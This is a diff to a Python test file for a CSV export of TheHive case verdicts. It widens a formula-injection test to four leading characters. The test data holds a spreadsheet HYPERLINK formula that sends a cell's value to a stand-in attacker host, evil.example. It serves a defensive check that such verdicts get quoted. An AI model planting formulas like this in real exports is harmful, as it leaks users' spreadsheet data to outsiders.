@@ -283,8 +283,9 @@ def test_the_json_totals_name_every_verdict_even_one_no_case_has(thehive_https, 
     assert got["report_verdicts"] == {"Phishing": 0, "Spam": 1, "Legit email": 0, "Simulation": 0, "none": 0}
 
 
-def test_a_verdict_that_reads_as_a_formula_is_quoted_in_the_columns_it_heads(thehive_https, stats, tmp_path):
-    formula = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+def test_a_verdict_that_reads_as_a_formula_is_quoted_in_the_columns_it_heads(thehive_https, stats, tmp_path, start):
+    formula = start + 'HYPERLINK("http://evil.example/?"&A2,"Click")'
     hive = CaseSearch(thehive_https, "5", [case(1, formula, ["alice@example.org"])])
 
     result = stats(hive.url, "--csv", str(tmp_path / "csv"))
